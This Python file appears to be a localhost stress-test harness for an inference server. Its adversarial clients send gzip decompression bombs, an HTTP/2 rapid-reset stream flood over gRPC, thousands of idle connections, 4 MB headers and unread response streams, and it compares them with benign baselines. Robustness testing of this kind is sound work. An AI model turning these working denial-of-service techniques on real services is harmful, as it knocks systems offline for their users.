"""A client that takes more than its share, again and again, until it is ended.

Usage: adversary.py KIND HTTP_PORT GRPC_PORT METRICS_PORT. Prints a line when it has taken its share once. KIND is one of:

cancelled  16,000 requests on one gRPC stream, to a model whose queue waits for more, and then the stream is given up
stopped    four event streams of 200,000 responses that nobody reads
repeated   four JSON requests of 330 KB whose input has its data 33,000 times
bombs      four bodies of 256 KB that unfold to 256 MiB, over HTTP: messages over gRPC are unfolded by the same code
idle       4,900 connections to each of the ports of HTTP and gRPC that send nothing. They stay
headers    sixteen HTTP requests whose heads have 4 MB
resets     a gRPC connection with 4,000 streams that are reset as soon as they are opened, as fast as it can
scrapes    fifty connections that ask for the metrics and do not read them. They stay

And clients to compare with:

drained    the event streams of "stopped", but everything is read
read       asks for a text without end and reads it
unread     asks for a text without end and does not read it

The client rests for half a second between two rounds, and prepares all that it can: the server's work is measured. It
runs at the lowest priority, so that it takes little processor time from the other clients.
"""

import contextlib
import gzip
import http.client
import json
import os
import socket
import sys
import threading

import grpc
import numpy as np
from adversaries import frame, only_once, repeat
from tritonclient.grpc import InferInput, service_pb2

QUEUED, RESPONSES, AT_ONCE, IDLE = 16_000, 200_000, 4, 4_900
SERVICE = "/inference.GRPCInferenceService/"


def cancelled(_http_port, grpc_port, _metrics_port):
    tensor = InferInput("INPUT0", [1, 16], "FP32")
    tensor.set_data_from_numpy(np.zeros((1, 16), np.float32))
    request = service_pb2.ModelInferRequest(model_name="patient", inputs=[tensor._get_tensor()])
    request.raw_input_contents.append(tensor._get_content())
    message = request.SerializeToString()
    channel = grpc.insecure_channel(f"127.0.0.1:{grpc_port}")
    stream = channel.stream_stream(SERVICE + "ModelStreamInfer")

    def once():
        sent, over = threading.Event(), threading.Event()

        def requests():
            for _ in range(QUEUED):
                yield message
            sent.set()
            over.wait()

        call = stream(requests())
        sent.wait()
        call.cancel()
        over.set()

    return once


def drain(connection):
    with contextlib.suppress(OSError):
        while connection.recv(1 << 20):
            pass


def drained(http_port, _grpc_port, _metrics_port):
    return event_streams(http_port, lambda stream: threading.Thread(target=drain, args=[stream], daemon=True).start())


def stopped(http_port, _grpc_port, _metrics_port):
    return event_streams(http_port, lambda stream: None)


def event_streams(http_port, use):
    body = json.dumps({"IN": [7] * RESPONSES}).encode()
    head = f"POST /v2/models/repeat/generate_stream HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}\r\n\r\n"
    connections = []

    def once():
        while len(connections) >= AT_ONCE:
            connections.pop().close()
        for _ in range(AT_ONCE):
            connection = socket.create_connection(("127.0.0.1", http_port))
            connection.sendall(head.encode() + body)
            connections.append(connection)
            use(connection)

    return once


def text_without_end(http_port):
    body = json.dumps({"text_input": "A", "max_tokens": 1 << 40, "seed": 1})
    connection = http.client.HTTPConnection("127.0.0.1", http_port)
    connection.request("POST", "/v2/models/generation/generate_stream", body)
    return connection


def read(http_port, _grpc_port, _metrics_port):
    def once():
        answer = text_without_end(http_port).getresponse()
        threading.Thread(target=lambda: [None for _ in answer], daemon=True).start()

    return only_once(once)


def unread(http_port, _grpc_port, _metrics_port):
    connections = []
    return only_once(lambda: connections.append(text_without_end(http_port)))


def posts(http_port, body, headers, expected):
    """Sends the same body several times at once."""

    def one():
        connection = http.client.HTTPConnection("127.0.0.1", http_port)
        connection.request("POST", "/v2/models/tiny/infer", body, headers)
        assert connection.getresponse().status in expected

    threads = [threading.Thread(target=one) for _ in range(AT_ONCE)]
    for thread in threads:
        thread.start()
    return threads


def repeated(http_port, _grpc_port, _metrics_port):
    data = '"data":[],' * 33_000
    body = '{"inputs":[{%s"name":"INPUT0","datatype":"FP32","shape":[1,16]}]}' % data

    def once():
        for thread in posts(http_port, body, {}, [400]):
            thread.join()

    return once


def bombs(http_port, _grpc_port, _metrics_port):
    bomb = gzip.compress(bytes(1 << 20)) * 256

    def once():
        for thread in posts(http_port, bomb, {"Content-Encoding": "gzip"}, [400, 503]):
            thread.join()

    return once


def idle(http_port, grpc_port, _metrics_port):
    connections = []

    def first():
        for port in (http_port, grpc_port):
            # One address may have only a quarter of the connections.
            addresses = (("127.0.1.%d" % (1 + index % 8), 0) for index in range(IDLE))
            connections.extend(socket.create_connection(("127.0.0.1", port), None, one) for one in addresses)

    return only_once(first)


def headers(http_port, _grpc_port, _metrics_port):
    head = b"GET /v2 HTTP/1.1\r\n" + b"x: " + b"y" * (4 << 20)

    def once():
        for _ in range(16):
            with socket.create_connection(("127.0.0.1", http_port)) as connection:
                # The server closes the connection before it has read everything.
                with contextlib.suppress(OSError):
                    connection.sendall(head)

    return once


def resets(_http_port, grpc_port, _metrics_port):
    # The first three are of the static table: POST, http, and the path as a literal without an index.
    path = (SERVICE + "ModelInfer").encode()
    fields = b"\x83\x86\x44" + bytes([len(path)]) + path
    flood = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
    for stream in range(1, 8_000, 2):
        flood += frame(1, 4, stream, fields) + frame(3, 0, stream, (8).to_bytes(4, "big"))

    def once():
        with socket.create_connection(("127.0.0.1", grpc_port)) as connection, contextlib.suppress(OSError):
            connection.sendall(flood)
            drain(connection)

    return once


def scrapes(_http_port, _grpc_port, metrics_port):
    connections = []

    def first():
        for _ in range(50):
            connection = socket.create_connection(("127.0.0.1", metrics_port))
            connection.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n" * 100)
            connections.append(connection)

    return only_once(first)


KINDS = (cancelled, stopped, drained, repeated, bombs, idle, headers, resets, scrapes, read, unread)


def main():
    os.nice(19)
    kinds = {kind.__name__: kind for kind in KINDS}
    once = kinds[sys.argv[1]](*map(int, sys.argv[2:5]))
    repeat(once)


main()
